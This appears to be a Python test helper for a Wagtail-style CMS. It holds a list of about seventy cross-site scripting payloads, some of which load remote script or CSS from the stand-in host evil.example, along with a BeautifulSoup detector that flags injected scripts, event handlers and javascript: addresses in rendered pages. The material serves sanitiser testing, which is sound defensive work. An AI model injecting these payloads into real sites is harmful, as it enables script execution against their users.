"""Texts that try to be more than text, and a reader that finds out whether one of them became a script."""

import json
import re

from bs4 import BeautifulSoup

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=data:,alert(1)>",
    "<script\n>alert(1)</script\n>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'>",
    '<img src="x" ONERROR="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img srcset='x 1x' onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>go</a>",
    '<a href="JaVaScRiPt:alert(1)">go</a>',
    '<a href=" javascript:alert(1)">go</a>',
    '<a href="java\tscript:alert(1)">go</a>',
    '<a href="java\nscript:alert(1)">go</a>',
    '<a href="&#106;avascript:alert(1)">go</a>',
    '<a href="javascript&colon;alert(1)">go</a>',
    '<a href="\x01javascript:alert(1)">go</a>',
    '<a href="data:text/html,<script>alert(1)</script>">go</a>',
    '<a href="vbscript:msgbox(1)">go</a>',
    '<a href="https://example.org" onclick="alert(1)">go</a>',
    '<a href="https://example.org" onmouseover=alert(1) style=position:fixed;inset:0>go</a>',
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style=background:url(javascript:alert(1))>",
    '<p style="behavior:url(#x)">Word</p>',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7|add:7 }}{% debug %}",
    "${alert(1)}",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1)>x</x>",
    '<embed embedtype="media" url="javascript:alert(1)"/>',
    '<a linktype="page" id="1" onclick="alert(1)">go</a>',
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
]
ADDRESSES = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset")
NEVER = ("iframe", "object", "embed", "base", "marquee", "style", "math", "frame")


def as_draftail(text: str, *, link: str = "") -> str:
    """What the editor’s own script sends for a text, with all of it a link if one is given."""
    entity = {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": link}}} if link else {}
    ranges = [{"offset": 0, "length": len(text), "key": 0}] if link else []
    block = {
        "key": "aaaaa",
        "text": text,
        "type": "unstyled",
        "depth": 0,
        "inlineStyleRanges": [],
        "entityRanges": ranges,
        "data": {},
    }
    return json.dumps({"blocks": [block], "entityMap": entity})


def found_in(html: str) -> list[str]:
    """What in a page is a script that is not ours, a handler, or an address that runs something."""
    soup = BeautifulSoup(html, "html.parser")
    found = []
    for element in soup.find_all(True):
        if element.name == "script" and not _is_ours(element):
            found.append(str(element)[:200])
        if element.name in NEVER or (element.name == "meta" and element.get("http-equiv")):
            found.append(str(element)[:200])
        for name, given in element.attrs.items():
            value = " ".join(given) if isinstance(given, list) else given
            if name.startswith("on") or name in ("style", "srcdoc"):
                found.append(f"{element.name} {name}={value[:100]}")
            plain = re.sub(r"[\x00-\x20]", "", value).lower()
            if name in ADDRESSES and re.match(r"(javascript|vbscript|data:(?!image/))", plain):
                found.append(f"{element.name} {name}={value[:100]}")
    return found


MARKS = ("alert(", "evil.example", "msgbox", "behavior:url")


def injected_in(html: str) -> list[str]:
    """The same in a page that has scripts and styles of its own, as the back offices have: what bears a mark of ours."""
    return [one for one in found_in(html) if any(mark in one for mark in MARKS)]


def _is_ours(script) -> bool:
    if script.get("type") in ("application/ld+json", "application/json"):
        json.loads(script.string)
        return True
    return script.get("src", "").startswith("/static/") and not script.get_text(strip=True)
